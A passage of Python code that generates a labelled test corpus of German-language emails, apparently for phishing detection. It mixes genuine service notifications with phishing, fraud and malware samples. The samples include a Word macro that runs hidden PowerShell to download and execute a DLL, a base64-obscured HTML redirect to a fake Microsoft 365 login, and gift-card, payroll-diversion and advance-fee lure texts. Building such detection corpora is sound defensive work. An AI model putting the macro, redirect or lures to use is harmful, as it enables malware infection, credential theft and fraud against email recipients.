  "Stefan Hoffmann hat „Lohnunterlagen_Praxis_Brenner_Q2-2025.pdf“ für Sie freigegeben", "2025-07-02 15:44:10",
  "40.107.21.55", "EUR05-VI1-obe.outbound.protection.outlook.com", "pass/pass/pass",
  alt(page("SharePoint", "#036c70", "Stefan Hoffmann hat eine Datei f&uuml;r Sie freigegeben", [
      "&bdquo;Hallo Frau Ott, anbei die Lohnunterlagen f&uuml;r das zweite Quartal zur Pr&uuml;fung. Bitte bis "
      "Freitag freigeben. Beste Gr&uuml;&szlig;e, Stefan Hoffmann&ldquo;",
      "<b>Lohnunterlagen_Praxis_Brenner_Q2-2025.pdf</b>"], ("&Ouml;ffnen", SP_URL),
      "Microsoft respektiert Ihre Privatsph&auml;re. Lesen Sie unsere "
      '<a href="https://go.microsoft.com/fwlink/?LinkId=521839">Datenschutzbestimmungen</a>.<br>'
      "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052"), "_000_sp_share_0702_"),
  "Genuine SharePoint Online sharing notification from a tax consultant's compromised tenant (all "
  "authentication passes); the shared 'payroll' PDF is a lure that links on to an adversary-in-the-middle login.",
  mailfrom="no-reply@sharepointonline.com", dkim=[("sharepointonline.com", "selector1")], policy="reject",
  utc=True, extra=["X-MS-Exchange-Organization-SharePoint-Notification: Share"])

ICS_URL = "https://tischlerei-kraemer-hr.azurewebsites.net/portal/?id=" + tok("ics", 20)
ICS = ("BEGIN:VCALENDAR\nMETHOD:REQUEST\nPRODID:Microsoft Exchange Server 2010\nVERSION:2.0\nBEGIN:VEVENT\n"
       "ORGANIZER;CN=Personalservice:mailto:personal@tischlerei-kraemer-hr.de\n"
       "ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Petra Seidel:\n"
       " mailto:p.seidel@tischlerei-kraemer.de\n"
       "DESCRIPTION;LANGUAGE=de-DE:Bitte prüfen Sie vorab Ihre neue Gehaltsstruktur 2025 im Mitarbeiterpor\n"
       f" tal und bestätigen Sie Ihre Teilnahme:\\n{ICS_URL[:60]}\n {ICS_URL[60:]}\\n\n"
       "SUMMARY;LANGUAGE=de-DE:Mitarbeitergespräch – Gehaltsanpassung 2025\n"
       "DTSTART;TZID=W. Europe Standard Time:20250123T100000\nDTEND;TZID=W. Europe Standard Time:20250123T103000\n"
       f"UID:040000008200E00074C5B7101A82E008000000{tok('icsuid', 24, HEX).upper()}\nSEQUENCE:0\n"
       "DTSTAMP:20250120T081500Z\nLOCATION;LANGUAGE=de-DE:Microsoft Teams-Besprechung\nSTATUS:CONFIRMED\n"
       "END:VEVENT\nEND:VCALENDAR\n")
ICS_TXT = ("Bitte prüfen Sie vorab Ihre neue Gehaltsstruktur 2025 im Mitarbeiterportal und bestätigen Sie Ihre "
           f"Teilnahme:\n{ICS_URL}\n\nPersonalservice\n")
M("ics-invite", "phishing", "m365", ("Petra Seidel", "p.seidel@tischlerei-kraemer.de"),
  ("Personalservice", "personal@tischlerei-kraemer-hr.de"),
  "Einladung: Mitarbeitergespräch – Gehaltsanpassung 2025 (Do 23.01.2025 10:00)", "2025-01-20 09:15:00",
  "172.86.114.20", "mail.tischlerei-kraemer-hr.de", "pass/pass/none",
  Multi("alternative", "_000_ics_invite_0120_", [
      text(ICS_TXT), text(outlook_html(ICS_TXT), "html"),
      Leaf("text/calendar", ICS.encode(), "base64", '; charset="utf-8"; method=REQUEST')]),
  "Calendar invitation for a 'salary adjustment' meeting from a look-alike HR domain; the event description links "
  "to an Azure Web Apps credential page.",
  dkim=[("tischlerei-kraemer-hr.de", "default")], origin="postfix")

M("gift-cards", "phishing", "m365", ("Jana Wolff", "j.wolff@praxis-dr-brenner.de"),
  ("Dr. Katrin Brenner", "dr.katrin.brenner.praxis@gmail.com"),
  "Kurze Bitte", "2024-12-17 10:26:31",
  "209.85.128.49", "mail-wm1-f49.google.com", "pass/pass/pass",
  text("Hallo Jana,\n\nbist du gerade in der Praxis? Ich bin in einer Fortbildung und kann nicht telefonieren.\n\n"
       "Ich brauche kurz deine Hilfe: Für die Weihnachtsüberraschung fürs Team bräuchte ich 5 Apple "
       "Geschenkkarten à 100 €. Kannst du die schnell beim Rewe um die Ecke holen? Das Geld bekommst du heute "
       "noch zurück.\n\nSchick mir dann bitte Fotos von den Codes auf der Rückseite, damit ich sie direkt "
       "verschicken kann. Und bitte nichts den anderen sagen, soll ja eine Überraschung sein :)\n\n"
       "Danke dir!\nKatrin\n\nVon meinem iPhone gesendet\n"),
  "Gift-card fraud to a dental assistant from a Gmail account using the practice owner's name, no link.",
  mailfrom="dr.katrin.brenner.praxis@gmail.com", dkim=[("gmail.com", "20230601")], policy="none",
  origin="gmail", extra=[IPHONE])

VM_TARGET = "https://login.m365-teams-auth.com/common/oauth2/v2.0/authorize?client_id=" + tok("vm", 32, HEX)
VM_HTML = ("<html><head><title>Sprachnachricht</title></head><body>\n<script>\nvar e='g.maier@steuerbuero-maier.de';"
           "\nvar t=atob('" + base64.b64encode(VM_TARGET.encode()).decode() + "');\n"
           "document.write('<p style=\"font-family:Segoe UI\">Sprachnachricht wird geladen ...</p>');\n"
           "setTimeout(function(){window.location.href=t+'#'+btoa(e);},800);\n</script></body></html>\n")
M("voicemail-html", "phishing", "m365", ("Gerhard Maier", "g.maier@steuerbuero-maier.de"),
  ("Microsoft Teams", "voicemail@teams-sprachnachricht.com"),
  "Neue Sprachnachricht von +49 89 2154 7730 (0:47)", "2025-04-29 16:58:05",
  "104.168.37.214", "mail.teams-sprachnachricht.com", "pass/pass/none",
  mixed("----=_vm_0429_Part1",
        alt(page("Microsoft Teams", "#4b53bc", "Sie haben eine neue Sprachnachricht", [
            "Von: +49 89 2154 7730<br>Dauer: 00:47<br>Empfangen: 29.04.2025 16:57",
            "Die Sprachnachricht ist als Anhang beigef&uuml;gt. &Ouml;ffnen Sie den Anhang und melden Sie sich mit "
            "Ihrem Microsoft 365 Konto an, um die Nachricht abzuspielen."], None,
            "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052"), "----=_vm_0429_Alt"),
        attachment("text/html", "Sprachnachricht_4989215477300047.htm", VM_HTML.encode())),
  "Fake Teams voicemail to a tax office with an HTML attachment whose base64-hidden JavaScript redirects to a "
  "Microsoft 365 login page, appending the victim address.",
  dkim=[("teams-sprachnachricht.com", "default")], origin="postfix")


DOCM_MACRO = ('Sub AutoOpen()\n    Dim p As String\n    p = "powershell -w hidden -nop -c ""$u=\'https://vogel-immobilien.de'
              '/wp-content/uploads/2025/03/k.dat\';$f=$env:TEMP+\'\\\\k.dll\';(New-Object Net.WebClient).DownloadFile($u,'
              '$f);Start-Process rundll32 -ArgumentList ($f+\',#1\')"""\n    CreateObject("WScript.Shell").Run p, 0, False\n'
              'End Sub\n')
M("mahnung-docm", "malware", "m365", ("Thomas Krämer", "t.kraemer@tischlerei-kraemer.de"),
  ("Martin Vogel", "m.vogel@vogel-immobilien.de"),
  "AW: Angebot Fenster und Haustür Lindenstraße 14", "2025-03-11 14:52:18",
  "212.227.126.135", "mout.kundenserver.de", "pass/pass/pass",
  mixed("----=_NextPart_000_00A1_01DB9274.3F0C9E10",
        text("Hallo Herr Krämer,\n\nanbei unsere Rückfragen und Änderungswünsche zu Ihrem Angebot 2025-118. Das "
             "Dokument ist geschützt, bitte oben auf „Bearbeitung aktivieren“ und „Inhalt aktivieren“ klicken.\n\n"
             "Gruß\nMartin Vogel\n\n-----Ursprüngliche Nachricht-----\nVon: Thomas Krämer "
             "<t.kraemer@tischlerei-kraemer.de>\nGesendet: Freitag, 7. März 2025 17:03\nAn: Martin Vogel "
             "<m.vogel@vogel-immobilien.de>\nBetreff: Angebot Fenster und Haustür Lindenstraße 14\n\nHallo Herr Vogel,"
             "\nwie besprochen unser Angebot für die Holzfenster (IV 78) und die Haustür. Lieferzeit ca. 8 Wochen.\n"
             "Viele Grüße\nThomas Krämer\nTischlerei Krämer GmbH\n"),
        att("Rueckfragen_Angebot_2025-118.docm",
            files.docx(["Rückfragen zum Angebot 2025-118", "Dieses Dokument ist geschützt. Klicken Sie auf "
                        "„Inhalt aktivieren“, um den Inhalt anzuzeigen."], "Angebot", "Martin Vogel", DOCM_MACRO),
            "application/vnd.ms-word.document.macroEnabled.12")),
  "Hijacked reply thread from a customer's compromised IONOS mailbox (authentication passes) carrying a "
  "macro-enabled Word document with an AutoOpen PowerShell downloader.",
  dkim=[("vogel-immobilien.de", "s1-ionos")], origin="exim", cip="154.61.71.13",
  extra=["In-Reply-To: <DU2PR03MB8123A1F0@DU2PR03MB8123.eurprd03.prod.outlook.com>",
         "References: <DU2PR03MB8123A1F0@DU2PR03MB8123.eurprd03.prod.outlook.com>"])

M("payroll-diversion", "phishing", "m365", ("Sabine Ott", "s.ott@praxis-dr-brenner.de"),
  ("Jana Wolff", "jana.wolff.mfa@gmx.de"),
  "Neue Bankverbindung fürs Gehalt", "2025-10-20 07:41:55",
  "212.227.17.20", "mout.gmx.net", "pass/pass/pass",
  text("Hallo Sabine,\n\nich habe mein Gehaltskonto gewechselt. Kannst du bitte die neue Bankverbindung ans Lohnbüro "
       "weitergeben, damit das Oktobergehalt schon auf das neue Konto geht?\n\nKontoinhaberin: Jana Wolff\n"
       "IBAN: DE27 1001 1001 2627 3849 51\nBank: N26\n\nIch schreibe von meiner privaten Adresse, weil ich "
       "mich von zu Hause gerade nicht in die Praxismail einloggen kann.\n\nDanke und LG\nJana\n"),
  "Payroll-diversion request to a practice manager from a GMX freemail address using an assistant's name, "
  "asking to switch the salary to a neobank IBAN; no link.",
  dkim=[("gmx.de", "s31663417")], policy="quarantine", origin="gmxout", cip="37.4.250.93")

M("advance-fee", "phishing", "gmx", ("Horst Bergmann", "horst.bergmann@gmx.de"),
  ("Mrs. Margaret Whitfield", "margaret.whitfield.foundation@outlook.com"),
  "Spende von 1.500.000,00 € / Donation for you", "2024-06-18 03:12:40",
  "40.92.63.17", "EUR01-HE1-obe.outbound.protection.outlook.com", "pass/pass/pass",
  text("Dear Friend,\n\nI am Mrs. Margaret Whitfield, a widow and winner of the EuroMillions jackpot of "
       "£184,000,000. As part of my charity foundation I have chosen 5 people in Germany to receive a donation of "
       "€1,500,000.00 each. Your email address was selected by Google.\n\nTo claim your donation please send me "
       "your full name, address, telephone number and a copy of your ID. My attorney Barrister James Cole will "
       "contact you for the transfer processing fee.\n\nSehr geehrter Empfänger, Sie haben eine Spende erhalten! "
       "Bitte antworten Sie umgehend.\n\nGod bless,\nMrs. Margaret Whitfield\n"),
  "Advance-fee 'lottery winner donation' letter in English with a German line, from an Outlook.com freemail "
  "account with a different Reply-To.",
  reply_to="whitfield.claims@proton.me", dkim=[("outlook.com", "selector1")], policy="none", origin="outlook")


# =========================================================================== legitimate mail

def unsub(url: str, mailto: str | None = None) -> list[str]:
    value = f"<{url}>" + (f", <mailto:{mailto}>" if mailto else "")
    return [f"List-Unsubscribe: {value}", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]


M("sparkasse-postfach", "bulk", "gmx", ("Monika Albrecht", "monika.albrecht61@gmx.de"),
  ("Sparkasse KölnBonn", "noreply@sparkasse-koelnbonn.de"),
  "Neue Nachricht in Ihrem elektronischen Postfach", "2025-04-01 06:12:09",
  "193.16.178.21", "mailout2.sparkasse-koelnbonn.de", "pass/pass/pass",
  alt(page("Sparkasse K&ouml;lnBonn", "#ff0000", "Neues Dokument in Ihrem elektronischen Postfach", [
      "Guten Tag Frau Albrecht,",
      "in Ihrem elektronischen Postfach ist ein neues Dokument f&uuml;r Sie eingegangen: <b>Kontoauszug 03/2025 "
      "zum Girokonto ...4471</b>.",
      "Bitte melden Sie sich wie gewohnt &uuml;ber die Sparkassen-App oder &uuml;ber die Internet-Filiale an. "
      "Aus Sicherheitsgr&uuml;nden fordern wir Sie per E-Mail nie zur Eingabe von Zugangsdaten oder TANs auf."],
      ("Zur Internet-Filiale", "https://www.sparkasse-koelnbonn.de/de/home.html"),
      "Sparkasse K&ouml;lnBonn &middot; Hahnenstra&szlig;e 57 &middot; 50667 K&ouml;ln &middot; "
      '<a href="https://www.sparkasse-koelnbonn.de/de/home/toolbar/impressum.html">Impressum</a>'), "=_spk_kb_0401"),
  "Genuine Sparkasse KölnBonn notice that a statement is in the electronic Postfach, from the bank's own domain "
  "with passing authentication and a link only to its homepage.",
  dkim=[("sparkasse-koelnbonn.de", "fi2024")], policy="reject")

M("ing-postbox", "bulk", "gmail", ("Lea Hartmann", "lea.hartmann92@gmail.com"),
  ("ING", "noreply@ing.de"),
  "Neues Dokument in Ihrer Post-Box", "2025-06-02 05:31:44",
  "195.20.151.37", "mail-out3.ing.de", "pass/pass/pass",
  alt(page("ING", "#ff6200", "Sie haben neue Post", [
      "Guten Tag Frau Hartmann,", "in Ihrer Post-Box liegt ein neues Dokument f&uuml;r Sie: <b>Kontoauszug Mai "
      "2025 &ndash; Girokonto</b>.", "Sie finden es im Internetbanking oder in der Banking to go App unter "
      "&bdquo;Post-Box&ldquo;."], ("Zum Banking", "https://banking.ing.de/app/login"),
      "ING-DiBa AG &middot; Theodor-Heuss-Allee 2 &middot; 60486 Frankfurt am Main &middot; Diese E-Mail wurde "
      "automatisch versendet."), "----=_ing_pb_0602"),
  "Genuine ING Post-Box notification from ing.de (SPF, DKIM and DMARC pass) pointing to the real banking login.",
  dkim=[("ing.de", "ing2023")], policy="reject")

DHL_ID = "00340434161094015902"
M("dhl-sendung", "bulk", "gmx", ("Thomas Reuter", "t.reuter@gmx.de"),
  ("DHL Paket", "noreply@dhl.de"),
  "Ihre DHL Sendung kommt heute", "2024-12-13 07:02:55",
  "165.72.200.33", "mail-out2.deutschepost.de", "pass/pass/pass",
  alt(page("DHL", "#ffcc00", "Ihre Sendung kommt heute zwischen 11:30 und 14:30 Uhr", [
      f"Sendungsnummer: <b>{DHL_ID}</b><br>Absender: Thalia B&uuml;cher GmbH",
      "Sie sind nicht zu Hause? &Auml;ndern Sie kostenlos Ihre Zustellung, z.&nbsp;B. an einen Ablageort oder an "
      "eine Filiale."], ("Sendung verfolgen", f"https://www.dhl.de/de/privatkunden/dhl-sendungsverfolgung.html?"
                         f"piececode={DHL_ID}&cid=c_em_ankuendigung_{tok('dhlc', 8, HEX)}"),
      "Deutsche Post AG &middot; Charles-de-Gaulle-Stra&szlig;e 20 &middot; 53113 Bonn",
      after=[f'<a href="https://www.dhl.de/de/privatkunden/pakete-empfangen/zustellung-aendern.html?piececode={DHL_ID}">'
             "Zustellung &auml;ndern</a>"],
      pixel=f"https://mailing.dhl.de/o/{tok('dhlpx', 24, HEX)}.gif"), "----=_Part_dhl_7712"),
  "Genuine DHL 'arrives today' notice from dhl.de with passing authentication and tracking links to dhl.de.",
  dkim=[("dhl.de", "dhl2024")], policy="reject")

M("elster-bescheid", "bulk", "webde", ("Sandra Keller", "sandra.keller@web.de"),
  ("ELSTER", "noreply@elster.de"),
  "Mein ELSTER: Neue Bescheiddaten zum Abruf bereit", "2025-06-24 04:15:33",
  "193.101.200.41", "mail.elster.de", "pass/pass/pass",
  text("Sehr geehrte Nutzerin, sehr geehrter Nutzer,\n\nfür Ihr Benutzerkonto in Mein ELSTER liegen neue "
       "Bescheiddaten zur Einkommensteuer 2024 zum Abruf bereit.\n\nBitte melden Sie sich wie gewohnt unter "
       "www.elster.de an und rufen Sie die Daten unter „Formulare & Leistungen > Bescheiddaten abholen“ ab.\n\n"
       "Aus Sicherheitsgründen enthält diese E-Mail keine Links und keine Anhänge. Die Finanzverwaltung fordert "
       "Sie niemals per E-Mail zur Eingabe von Bankdaten auf.\n\nIhr ELSTER-Team\n\nDiese Nachricht wurde "
       "automatisch erzeugt. Bitte antworten Sie nicht auf diese E-Mail.\n"),
  "Genuine ELSTER notification that assessment data is ready, plain text from elster.de with no links.",
  dkim=[("elster.de", "elster1")], policy="reject")

M("telekom-rechnung", "bulk", "tonline", ("Ursula Meier", "ursula.meier@t-online.de"),
  ("Telekom Deutschland GmbH", "rechnungonline@telekom.de"),
  "Ihre Telekom Festnetz-Rechnung für Februar 2025", "2025-02-19 03:44:21",
  "194.25.225.147", "mailout31.telekom.de", "pass/pass/pass",
  alt(page("T &middot; &middot; Telekom", "#e20074", "Ihre Rechnung ist da", [
      "Guten Tag Ursula Meier,", "Ihre Rechnung f&uuml;r Februar 2025 steht im Kundencenter bereit.",
      "Rechnungsbetrag: <b>47,95&nbsp;&euro;</b><br>Kundennummer: 5 871 204 993<br>Der Betrag wird am 26.02.2025 "
      "von Ihrem Konto abgebucht."], ("Rechnung ansehen", "https://www.telekom.de/kundencenter/rechnung?"
                                     "wt_mc=em_rechnungonline_festnetz_0225"),
      "Telekom Deutschland GmbH &middot; Landgrabenweg 151 &middot; 53227 Bonn", img="https://www.telekom.de/"
      "resources/images/logo-telekom.png"), "----=_tk_ro_0219"),
  "Genuine Telekom RechnungOnline notice from telekom.de (authentication passes) with links to telekom.de.",
  dkim=[("telekom.de", "dtag2023")], policy="reject")

AMZ = "https://www.amazon.de/gp/r.html?C=" + tok("amzc", 13, ALNUM.upper()) + "&R=" + tok("amzr", 14, ALNUM.upper())
M("amazon-versand", "bulk", "tonline", ("Gisela Brandt", "gisela.brandt@t-online.de"),
  ("Amazon.de", "versandbestaetigung@amazon.de"),
  "Versandbestätigung: „BRITA Wasserfilter Marella XL“ und 1 weiterer Artikel", "2024-10-09 14:31:07",
  "54.240.7.14", "a7-14.smtp-out.eu-west-1.amazonses.com", "pass/pass/pass",
  alt(page("amazon.de", "#232f3e", "Ihr Paket ist unterwegs!", [
      "Hallo Gisela Brandt,", "Ihre Bestellung #302-7731045-5583161 wurde versandt. Zustellung voraussichtlich "
      "<b>Freitag, 11. Oktober</b>.", "BRITA Wasserfilter Marella XL wei&szlig;<br>BRITA MAXTRA PRO Filterkartuschen, "
      "3er Pack"], ("Sendung verfolgen", AMZ + "&T=C&U=https%3A%2F%2Fwww.amazon.de%2Fgp%2Fyour-account%2Fship-track"
                    "%3ForderId%3D302-7731045-5583161&H=" + tok("amzh", 26, ALNUM.upper())),
      "Diese E-Mail wurde von einer Adresse gesendet, die keine eingehenden Nachrichten empfangen kann. Amazon EU "
      "S.&agrave; r.l., 38 avenue John F. Kennedy, L-1855 Luxemburg", pixel=AMZ + "&T=E&U=&H=" + tok("amzp", 20)),
      "----=_Part_2817734_90431822.1728477067"),
  "Genuine Amazon.de shipping confirmation sent through Amazon SES (DKIM for amazon.de and amazonses.com, DMARC "
  "pass) with amazon.de tracking redirects.",
  mailfrom="2024100912310702a3f1c8d7e84b1f9c0d2e5a7b6c8d9e0f@bounces.amazon.de", utc=True,
  mid="<0102019270f3a1c4-7d2e9b61-4f0a-4c3e-9a51-2b8e6d1f0c77-000000@eu-west-1.amazonses.com>",
  dkim=[("amazon.de", "yg4mwqurec7fkhzutopddd3ytuaqrvuz"), ("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv")],
  policy="quarantine")

M("paypal-zahlung", "bulk", "webde", ("Andrea Schubert", "andrea.schubert@web.de"),
  ("PayPal", "service@paypal.de"),
  "Ihr Zahlungsbeleg für Zalando SE", "2024-12-07 19:40:12",
  "173.0.84.225", "mx1.slc.paypal.com", "pass/pass/pass",
  alt(page("PayPal", "#003087", "Sie haben eine Zahlung &uuml;ber 89,95&nbsp;&euro; EUR an Zalando SE gesendet", [
      "Hallo Andrea Schubert,", "Transaktionscode: 8K4" + tok("pptx", 14, "0123456789ABCDEFGHJKLMNPRSTUVWXY") +
      "<br>Datum: 7. Dezember 2024<br>Zahlungsquelle: Girokonto bei Sparkasse ***4471",
      "Es kann einige Minuten dauern, bis die Transaktion in Ihrem Konto angezeigt wird."],
      ("Transaktionsdetails ansehen", "https://www.paypal.com/myaccount/transactions/details/8K4" +
       tok("pptx", 14, "0123456789ABCDEFGHJKLMNPRSTUVWXY")),
      '<a href="https://www.paypal.com/de/smarthelp/home">Hilfe</a> &middot; PayPal (Europe) S.&agrave; r.l. et Cie, '
      "S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg"), "--_NmP-1a2b3c4d5e6f7081-Part_1"),
  "Genuine PayPal payment receipt from service@paypal.de with passing authentication and paypal.com links.",
  dkim=[("paypal.de", "pp-dkim1")], policy="reject", utc=True, extra=["X-Email-Type-Id: PPX000584"])

M("a1-rechnung-echt", "bulk", "a1", ("Franz Huber", "franz.huber@a1.net"),
  ("A1", "rechnung@a1.net"),
  "Ihre A1 Rechnung Jänner 2025 ist da", "2025-01-09 05:20:48",
  "62.47.50.12", "mailout.a1.net", "pass/pass/pass",
  alt(page("A1", "#da291c", "Ihre Rechnung ist online verf&uuml;gbar", [
      "Sehr geehrter Herr Huber,", "Ihre A1 Rechnung f&uuml;r J&auml;nner 2025 &uuml;ber <b>39,90&nbsp;&euro;</b> "
      "steht in Mein A1 f&uuml;r Sie bereit. Der Betrag wird am 20.01.2025 von Ihrem Konto eingezogen."],
      ("Rechnung ansehen", "https://www.a1.net/mein-a1/rechnungen?utm_source=email&utm_medium=rechnung"),
      "A1 Telekom Austria AG &middot; Lassallestra&szlig;e 9 &middot; 1020 Wien"), "b1_a1_echt_0109"),
  "Genuine A1 monthly invoice notice from a1.net to an A1 customer, authentication passes, link to a1.net.",
  dkim=[("a1.net", "a1mail")], policy="quarantine")

M("postfinance-ebill", "bulk", "bluewin", ("Nathalie Favre", "nathalie.favre@bluewin.ch"),
  ("PostFinance", "noreply@postfinance.ch"),
  "Nouvelle facture eBill de Romande Energie SA", "2025-02-20 07:05:31",
  "194.41.140.26", "mx2.postfinance.ch", "pass/pass/pass",
  alt(page("PostFinance", "#ffcc00", "Vous avez re&ccedil;u une nouvelle facture eBill", [
      "Bonjour,", "Une nouvelle facture de <b>Romande Energie SA</b> d'un montant de CHF 143.60 est disponible "
      "dans e-finance, &eacute;ch&eacute;ance le 15.03.2025.", "Vous pouvez la v&eacute;rifier et la valider dans "
      "e-finance ou dans l'app PostFinance."], ("Vers e-finance", "https://www.postfinance.ch/fr/particuliers.html"),
      "PostFinance SA &middot; Mingerstrasse 20 &middot; 3030 Berne", lang="fr"), "=_pf_ebill_0220"),
  "Genuine French PostFinance eBill notification from postfinance.ch with passing authentication.",
  dkim=[("postfinance.ch", "pf2024")], policy="reject")

M("swisscom-login", "bulk", "bluewin", ("Urs Meier", "urs.meier@bluewin.ch"),
  ("Swisscom", "noreply@notifications.swisscom.ch"),
  "Neue Anmeldung bei Ihrem Swisscom Login", "2025-03-12 08:15:02",
  "138.188.100.44", "mailout.swisscom.ch", "pass/pass/pass",
  alt(page("Swisscom", "#001155", "Neue Anmeldung erkannt", [
      "Guten Tag Herr Meier", "Am 12.03.2025 um 08:14 Uhr wurde mit Ihrem Swisscom Login auf einem neuen Ger&auml;t "
      "angemeldet (Chrome auf Windows, Region Bern).", "Waren Sie das? Dann m&uuml;ssen Sie nichts tun. Falls nicht, "
      "&auml;ndern Sie bitte umgehend Ihr Passwort im Swisscom Login."],
      ("Sicherheitseinstellungen", "https://www.swisscom.ch/de/privatkunden/login.html"),
      "Swisscom (Schweiz) AG &middot; Alte Tiefenaustrasse 6 &middot; 3048 Worblaufen"), "b1_sc_login_0312"),
  "Genuine Swisscom 'new sign-in' security alert from swisscom.ch (authentication passes) linking to swisscom.ch.",
  dkim=[("notifications.swisscom.ch", "sc1")], policy="reject")

M("sbb-ticket", "bulk", "gmail", ("Giulia Bernasconi", "giulia.bernasconi@gmail.com"),
  ("FFS", "noreply@sbb.ch"),
  "Il tuo biglietto: Lugano – Zürich HB, 02.08.2025", "2025-07-31 21:14:55",
  "193.5.37.42", "mailout2.sbb.ch", "pass/pass/pass",
  mixed("----=_sbb_ticket_0731",
        alt(page("FFS", "#eb0000", "Grazie per il tuo acquisto", [
            "Gentile Giulia Bernasconi,", "in allegato trovi il tuo biglietto Lugano &ndash; Z&uuml;rich HB, 2a classe, "
            "valido il 02.08.2025 (CHF 37.80, metà-prezzo).", "Presenta il biglietto sul tuo smartphone o stampato."],
            ("I miei viaggi", "https://www.sbb.ch/it/acquistare/pagine/profilo/viaggi.html"),
            "FFS SA &middot; Hilfikerstrasse 1 &middot; 3000 Berna 65", lang="it"), "----=_sbb_alt_0731"),
        att("Biglietto_FFS_31752840.pdf", pdf_qr([
            "FFS SBB CFF - Biglietto", "", "Giulia Bernasconi", "Lugano - Zuerich HB, 2a classe, 1/2", "",
            "Valido: 02.08.2025", "Prezzo: CHF 37.80", "Numero biglietto: 31752840"],
            "SBBTKT:31752840:" + tok("sbbq", 40, HEX), "Biglietto FFS", "SBB Ticketing"))),
  "Genuine SBB/FFS Italian ticket confirmation from sbb.ch with the ticket as a PDF carrying a non-URL ticket QR code.",
  dkim=[("sbb.ch", "sbb1")], policy="reject")

M("ms-signin", "bulk", "outlook", ("Stefan Lorenz", "stefan.lorenz@outlook.de"),
  ("Microsoft-Kontoteam", "account-security-noreply@accountprotection.microsoft.com"),
  "Ungewöhnliche Anmeldeaktivität beim Microsoft-Konto", "2024-09-18 21:03:36",
  "52.101.84.4", "mail-northeuropeazon11010004.outbound.protection.outlook.com", "pass/pass/pass",
  alt(page("Microsoft-Konto", "#2672ec", "Ungew&ouml;hnliche Anmeldeaktivit&auml;t", [
      "Wir haben eine ungew&ouml;hnliche Anmeldeaktivit&auml;t f&uuml;r das Microsoft-Konto st*****@outlook.de "
      "festgestellt.", "Land/Region: Deutschland<br>IP-Adresse: 93.211.44.120<br>Datum: 18.09.2024 21:01 (MESZ)<br>"
      "Plattform: Android<br>Browser: Outlook", "Wenn Sie das waren, k&ouml;nnen Sie diese E-Mail ignorieren. "
      "Wenn nicht, sch&uuml;tzen Sie Ihr Konto."], ("Letzte Aktivit&auml;t &uuml;berpr&uuml;fen",
                                                   "https://account.live.com/Activity?mkt=de-DE"),
      'Sie k&ouml;nnen sich <a href="https://account.live.com/SecurityNotifications/Update">abmelden</a> oder '
      "&auml;ndern, wo Sie Sicherheitsbenachrichtigungen erhalten.<br>Microsoft Corporation, One Microsoft Way, "
      "Redmond, WA 98052"), "--=_ms_acct_0918"),
  "Genuine Microsoft account unusual sign-in alert from accountprotection.microsoft.com with passing "
  "authentication and account.live.com links.",
  dkim=[("accountprotection.microsoft.com", "selector1")], policy="reject", utc=True)

M("docusign-echt", "bulk", "m365", ("Andreas Haberl", "a.haberl@elektro-haberl.at"),
  ("Kanzlei Dr. Wallner via Docusign", "dse@eumail.docusign.net"),
  "Bitte mit Docusign unterzeichnen: Nachtrag_Gesellschaftsvertrag_2025.pdf", "2025-03-05 10:47:29",
  "185.203.112.40", "mailfr.eumail.docusign.net", "pass/pass/pass",
  alt(page("Docusign", "#4c00ff", "Kanzlei Dr. Wallner hat Ihnen ein Dokument zum &Uuml;berpr&uuml;fen und "
           "Unterzeichnen gesendet.", [
      "Sehr geehrter Herr Haberl,<br>wie telefonisch besprochen der Nachtrag zum Gesellschaftsvertrag zur "
      "Unterzeichnung.<br>Mit freundlichen Gr&uuml;&szlig;en<br>Mag. Julia Brandner"],
      ("DOKUMENT &Uuml;BERPR&Uuml;FEN", f"https://eu.docusign.net/Signing/EmailStart.aspx?a={tok('de1', 8, HEX)}-"
       f"{tok('de2', 4, HEX)}-{tok('de3', 4, HEX)}-{tok('de4', 12, HEX)}&etti=24&acct={tok('de5', 8, HEX)}-"
       f"{tok('de6', 4, HEX)}&er={tok('de7', 8, HEX)}"),
      "Diese Nachricht enth&auml;lt einen sicheren Link zu Docusign. Bitte geben Sie diesen Link nicht an andere "
      "weiter.<br>Alternative Signaturmethode: Besuchen Sie docusign.com, klicken Sie auf &bdquo;Dokumente "
      "aufrufen&ldquo; und geben Sie den Sicherheitscode ein: " + tok("de8", 32, HEX).upper()), "b1_dse_0305"),
  "Genuine Docusign envelope from a law firm, sent by eumail.docusign.net with passing authentication and a "
  "eu.docusign.net signing link.",
  dkim=[("eumail.docusign.net", "s1"), ("docusign.net", "s2")], policy="reject", utc=True)


CR = "https://t.crsend.com/c/"
M("cleverreach-holz", "bulk", "m365", ("Tischlerei Krämer", "info@tischlerei-kraemer.de"),
  ("Holz-Schmitt Fachhandel", "newsletter@holz-schmitt.de"),
  "Frühjahrsaktion: 15 % auf Massivholzplatten & Beschläge", "2025-03-18 10:00:12",
  "217.69.116.20", "mta6.crsend.com", "pass/pass/pass",
  alt(page("Holz-Schmitt", "#5a3e1b", "Fr&uuml;hjahrsaktion f&uuml;r Profis", [
      "Hallo Tischlerei Kr&auml;mer,", "vom 18. bis 31. M&auml;rz erhalten Sie 15&nbsp;% auf alle "
      f'<a href="{CR}{tok("cr1", 40, HEX)}">Massivholzplatten Eiche und Buche</a> sowie auf '
      f'<a href="{CR}{tok("cr2", 40, HEX)}">Beschl&auml;ge von Blum und H&auml;fele</a>.',
      f'Neu im Sortiment: <a href="{CR}{tok("cr3", 40, HEX)}">Akustikpaneele aus Eichenfurnier</a> &ndash; '
      "ab Lager Augsburg lieferbar."], ("Zum Aktionsshop", CR + tok("cr4", 40, HEX)),
      "Holz-Schmitt GmbH &amp; Co. KG &middot; Haunstetter Str. 112 &middot; 86161 Augsburg<br>"
      f'<a href="{CR}{tok("cr5", 40, HEX)}">Newsletter abbestellen</a> &middot; '
      f'<a href="{CR}{tok("cr6", 40, HEX)}">Im Browser ansehen</a>', pixel="https://t.crsend.com/o/" + tok("cr7", 40, HEX)),
      "----=_CR_3718442_88"),
  "Genuine trade-supplier newsletter to a joinery sent through CleverReach, every link a crsend.com tracking "
  "redirect; SPF/DKIM/DMARC pass.",
  mailfrom="bounce-3718442-88-info=tischlerei-kraemer.de@bounce.crsend.com",
  dkim=[("holz-schmitt.de", "cr1"), ("crsend.com", "cr")], utc=True,
